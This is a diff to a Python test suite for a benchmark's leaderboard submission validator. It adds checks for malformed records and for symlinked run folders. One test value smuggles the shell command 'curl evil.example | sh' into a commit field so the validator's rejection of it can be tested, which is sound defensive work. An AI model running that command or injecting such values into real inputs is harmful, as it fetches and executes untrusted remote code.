@@ -18,6 +18,7 @@ from lmrl_bench.digests import file_sha256
 from lmrl_bench.leaderboards.collect import collect
 from lmrl_bench.leaderboards.spec import load_board
 from lmrl_bench.leaderboards.submission import tree
+from lmrl_bench.leaderboards.submission.records import Submission
 from lmrl_bench.runs.expectations import of_board
 
 
@@ -253,6 +254,16 @@ RECORDS = {
         lambda c: c["results"]["validation"].update(truncated_share=0.125),
         "results.validation: truncated_share is 0.125, but curves.jsonl ends with",
     ),
+    "commands in place of a commit": (
+        "validate",
+        lambda c: c["provenance"].update(commit="main; curl evil.example | sh #"),
+        "provenance.commit: String should match pattern",
+    ),
+    "text in place of a flag": (
+        "validate",
+        lambda c: c["fidelity"].update(flags=["**checked**"]),
+        "fidelity.flags.0: Input should be 'max_logprob_difference'",
+    ),
     "no configuration at all": (
         "validate",
         lambda c: c.update(config={}),
@@ -485,6 +496,28 @@ def test_links(handed, refuse, tmp_path, name):
     path.rename(tmp_path / "elsewhere")
     path.symlink_to(tmp_path / "elsewhere")
     assert f"{path}: is a link; put the run's own" in refuse("validate")
+
+
+def test_older_rows_removed_through_a_link(handed, capsys, tmp_path):
+    """Under the link's own name the folder would stand for further rows only."""
+    shutil.rmtree(handed.folder / "toy" / "ppo")
+    other = handed.folder.rename(tmp_path / "rows")
+    handed.folder.symlink_to(other)
+    options = ("--board", handed.board, "--against", handed.before)
+    done = call(capsys, "submission", "validate", handed.folder, *options)
+    assert (done.code, f"{handed.folder}: is a link" in done.err) == (2, True)
+    assert Submission(load_board(handed.board), handed.folder).whole
+
+
+def test_what_a_run_leaves_behind_is_not_followed(handed, capsys, tmp_path):
+    """A folder of further rows is laid over the earlier ones, without what git ignores."""
+    rows = handed.folder.rename(tmp_path / "rows")
+    inside = rows / PPO / "1" / "policy"
+    inside.mkdir()
+    (inside / "secret").symlink_to(tmp_path / "nowhere")
+    options = ("--board", handed.board, "--against", handed.before)
+    done = call(capsys, "submission", "validate", rows, *options)
+    assert done.code == 0, done.err
 
 
 def test_what_is_no_file_of_a_run(handed, refuse):
